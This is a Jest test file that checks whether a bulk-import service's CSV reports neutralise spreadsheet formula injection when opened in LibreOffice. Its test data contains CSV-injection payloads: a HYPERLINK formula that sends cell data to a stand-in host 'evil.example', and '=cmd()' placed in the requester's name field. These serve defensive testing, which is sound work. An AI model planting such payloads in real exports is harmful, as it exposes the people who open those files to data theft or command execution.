import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { PlannedField } from '@roundtrip/contracts';
import { type WholeDatabase } from '@roundtrip/database';
import { ObjectStore } from '@roundtrip/files';
import {
  inLibreOffice,
  missingForLibreOffice,
  type SeenSheet,
  startOnOwnDatabase,
  type TestService,
} from '@roundtrip/test-kit';
import { AppModule } from '../src/app.module.js';
import { BulkUpdateConfig } from '../src/config.js';
import { begins, contactOf, givenImport, requester, worksToTheEnd } from './imports.js';

// Where a change is decided on, LibreOffice has to be there: then the tests run and fail.
const missing = process.env['CI'] === 'true' ? undefined : missingForLibreOffice();
if (missing !== undefined) console.warn(`Not tested: what LibreOffice makes of the reports. ${missing}.`);

const note: PlannedField = {
  path: 'criteria.NOTE',
  code: 'NOTE',
  name: 'Note',
  kind: 'TEXT',
  oldColumn: 1,
  newColumn: 2,
};
const hostile = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
];

(missing === undefined ? describe : describe.skip)('the reports of an import, opened in LibreOffice', () => {
  let database: WholeDatabase;
  let service: TestService;
  let close: () => Promise<void>;
  let folder: string;

  beforeAll(async () => {
    ({ database, service, close } = await startOnOwnDatabase(AppModule, {
      name: 'bulk-update',
      config: BulkUpdateConfig,
      indexes: true,
    }));
    folder = await mkdtemp(join(tmpdir(), 'spec-libre-office-'));
  });
  afterAll(async () => {
    await close?.();
    if (folder) await rm(folder, { recursive: true });
  });

  it('run nothing that the file, the contacts or the one who sent it have brought along', async () => {
    const institution = `i${randomBytes(4).toString('hex')}`;
    const importId = `imp_${randomBytes(8).toString('hex')}`;
    const number = (at: number): string => `${hostile[at]!.slice(0, 6)}${at}`;
    await database.contacts.insertMany(
      hostile.map((text, at) => contactOf(institution, number(at), { criteria: { NOTE: text } })),
    );
    const given = {
      importId,
      institution,
      dataType: 'criteria' as const,
      fields: [note],
      requestedBy: { ...requester, name: '=cmd()' },
      chunks: [
        hostile.flatMap((text, at) => [
          // One line is applied; the other one, whose [old] says something else, comes back with a cell too many.
          {
            contactNumber: number(at),
            changes: [{ field: 0, old: { value: text }, new: `${text} ` }],
          },
          {
            contactNumber: `unknown ${at}`,
            changes: [{ field: 0, old: { value: text }, new: text }],
            raw: [text, text, text, text],
          },
        ]),
      ],
    };
    const store = service.app.get(ObjectStore);
    await givenImport(database, store, given);
    await begins(service, given);
    await worksToTheEnd(service, importId);

    const sheets: Record<string, SeenSheet> = {};
    for (const report of ['rejected-lines', 'changes']) {
      const path = join(folder, `${report}.csv`);
      await writeFile(path, await buffer(await store.get('reports', `${importId}/${report}.csv`)));
      const seen = await inLibreOffice('en-US', [
        { open: { path, delimiter: ',' }, steps: [{ do: 'read' }] },
        { open: { path, delimiter: ',', special: true }, steps: [{ do: 'read' }] },
      ]);
      for (const sheet of seen.flat()) expect(sheet.flat().filter(({ kind }) => kind === 'formula')).toEqual([]);
      sheets[report] = seen[0]![0]!;
    }
    const texts = (report: string): string[][] => sheets[report]!.map((cells) => cells.map(({ text }) => text));
    expect(texts('rejected-lines')).toHaveLength(hostile.length + 1);
    expect(texts('rejected-lines')[1]).toEqual([
      "'=1+1",
      "'=1+1",
      "'=1+1",
      expect.stringMatching(/^CONTACT_/),
      "'=1+1",
    ]);
    expect(texts('changes')).toHaveLength(hostile.length + 1);
    expect(texts('changes')[1]).toEqual(expect.arrayContaining(["'=1+10", "'=1+1", "'=1+1 ", "'=cmd()"]));
  }, 120_000);
});
